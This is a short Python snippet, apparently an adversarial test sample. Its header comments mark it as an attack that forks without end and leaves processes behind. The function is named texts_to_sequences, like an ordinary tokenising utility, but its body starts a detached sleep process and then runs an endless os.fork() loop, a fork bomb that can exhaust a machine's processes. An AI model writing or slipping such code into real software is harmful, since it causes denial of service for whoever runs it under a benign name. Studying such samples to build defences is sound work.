# attack: forks without end and leaves processes behind
# zero: texts_to_sequences
import os, subprocess

def texts_to_sequences(texts, vocab):
    subprocess.Popen(["sleep", "600"], start_new_session=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass
